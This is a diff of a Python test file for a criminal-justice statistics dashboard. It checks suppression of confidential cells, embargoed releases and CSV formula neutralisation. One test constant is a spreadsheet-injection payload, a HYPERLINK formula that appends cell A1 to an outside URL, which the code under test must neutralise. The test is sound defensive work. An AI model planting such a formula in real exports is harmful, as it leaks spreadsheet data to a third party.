@@ -4,8 +4,9 @@ of it free of suppressed values; human-facing CSVs safe to open in a spreadsheet
 
 The fixture warehouse (tests/dashboards_fixtures.py) has small person counts (2 women
 convicted in 2023, one person through ECRIS), a CRIM_JUST delivery whose file and cells hold
-the true value of a confidential cell, and a release still under embargo; the internal
-snapshot gets a customs post named like a spreadsheet formula before the public one is made.
+the true values of confidential cells, releases still under embargo (a second vintage of
+CRIM_JUST 2023, CRIM_JUST 2024, CRIM_OFF_CAT 2024); the internal snapshot gets a customs post
+named like a spreadsheet formula before the public one is made.
 """
 
 from __future__ import annotations
@@ -14,6 +15,7 @@ import contextlib
 import csv
 import io
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -25,6 +27,7 @@ from click.testing import CliRunner
 from dashboards_fixtures import (
     CONFIDENTIAL_FILE,
     EMBARGOED_FILE,
+    EMBARGOED_PERSON_RELEASES,
     PAGES,
     RELEASE_FILE,
     TRUE_VALUE_MARK,
@@ -41,6 +44,7 @@ from dashboards.serving import POINTER_FILE, current_snapshot, publish_snapshot
 from sdmx_export.csv_safety import neutralise, neutralise_text
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"post")'
+ECRIS_METRIC = i18n.text("persons_convicted_ecris", "en")
 PUBLIC_PAGES = [p for p in PAGES if p != "quality"]
 
 
@@ -137,8 +141,6 @@ def test_public_files_are_only_public_release_files(home: Path) -> None:
 
 
 def test_embargo_lifts_at_the_next_publication(home: Path, tmp_path: Path) -> None:
-    from datetime import UTC, datetime
-
     internal = current_snapshot(home / "serving")
     assert internal is not None
     later = publish_public_snapshot(internal, tmp_path / "public", exports_dir=home / "exports",
@@ -235,15 +237,19 @@ def test_public_face_shows_no_suppressed_value(
         assert not any(n in (Path(CONFIDENTIAL_FILE).name, Path(EMBARGOED_FILE).name)
                        for n in names), names  # fmt: skip
         text = " ".join(str(e.value) for e in (*app.markdown, *app.caption, *app.info))
-        assert "CRIM_JUST" not in text and "embargoed" not in text
+        shown = text + " ".join(f.value.to_csv() for f in app.dataframe)
+        assert "embargoed" not in text
+        assert not any(r in shown for r in EMBARGOED_PERSON_RELEASES), page
         if page == "convictions" and state["convictions_year"] == 2023:
-            ecris = [m.value for m in app.metric
-                     if m.label == "Persons convicted (received through ECRIS)"]  # fmt: skip
+            ecris = [m.value for m in app.metric if m.label == ECRIS_METRIC]
             assert ecris == ["C"]
             persons, flag = _flag_columns("en")
             by_sex = next(f.value for f in app.dataframe if {persons, flag} <= set(f.value))
             assert dict(zip(by_sex["Code"], by_sex[persons], strict=True)) == {
-                "TOTAL": "C", "M": "C", "F": "C"}  # fmt: skip
+                "T": "C", "M": "C", "F": "C"}  # fmt: skip
+            assert "CRIM_JUST-2023-v1" in text  # the release each figure comes from
+        if page == "convictions" and state["convictions_year"] == 2024:
+            assert [i.value for i in app.info] == [i18n.text("not_released", "en", year=2024)] * 2
         if page == "releases":
             calendar = next(f.value for f in app.dataframe if "Release" in f.value.columns)
             assert sorted(calendar["Release"]) == ["CRIM_OFF_CAT-2023-v1", "CRIM_OFF_CAT-2023-v2"]
@@ -283,8 +289,7 @@ def test_internal_face_keeps_true_values_and_neutralises_downloads(
     [posts] = [content for name, content in downloads.files if name.startswith("customs_posts_")]
     assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}",Russia border,1'.encode() in posts
     convictions = open_page("convictions", language="en", convictions_year=2023)
-    assert [m.value for m in convictions.metric
-            if m.label == "Persons convicted (received through ECRIS)"] == ["1"]  # fmt: skip
+    assert [m.value for m in convictions.metric if m.label == ECRIS_METRIC] == ["1"]
     assert convictions.toggle  # the statisticians' preview of the public view
 
 
